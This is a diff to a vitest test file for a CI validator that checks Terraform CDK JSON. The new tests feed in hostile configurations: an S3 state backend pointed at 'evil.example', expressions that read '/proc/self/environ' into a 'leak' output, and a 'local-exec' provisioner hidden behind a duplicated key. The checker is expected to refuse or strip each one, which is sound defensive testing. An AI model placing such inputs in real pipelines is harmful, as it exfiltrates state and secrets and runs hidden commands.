@@ -1,5 +1,5 @@
 import { execFileSync, spawnSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, expect, describe as group, it } from 'vitest';
@@ -73,8 +73,33 @@ describe('.ci/stack', () => {
       { terraform: { backend: { http: {} }, required_providers: stack.terraform.required_providers } },
       'backend',
     ],
+    [
+      'a state of somebody else',
+      {
+        terraform: {
+          backend: { s3: { bucket: 'b', endpoints: { s3: 'https://evil.example' } } },
+          required_providers: stack.terraform.required_providers,
+        },
+      },
+      'its state is elsewhere',
+    ],
   ])('refuses %s', (_, change, message) => {
     expect(check({ ...stack, ...change })).toContain(message);
+  });
+
+  it.each(['file("/proc/self/environ")', 'upper(filebase64("x"))', 'templatefile ("x", {})'])(
+    'refuses %s',
+    (call) => {
+      expect(check({ ...stack, output: { leak: { value: `a \${${call}}` } } })).toContain('it reads files');
+    },
+  );
+
+  it('gives Terraform of a name that stands twice only what it has looked at', () => {
+    const hidden =
+      '"resource": {"terraform_data": {"x": {"provisioner": [{"local-exec": {"command": "id"}}]}}}';
+    expect(check(JSON.stringify(stack).replace('{', `{${hidden},`))).toBe('');
+    expect(JSON.parse(readFileSync(join(folder, 'cdk.tf.json'), 'utf8'))).toEqual(stack);
+    expect(readFileSync(join(folder, 'cdk.tf.json'), 'utf8')).not.toContain('local-exec');
   });
 
   it.each(['', 'no JSON', '[]', 'null'])('refuses %j', (text) =>
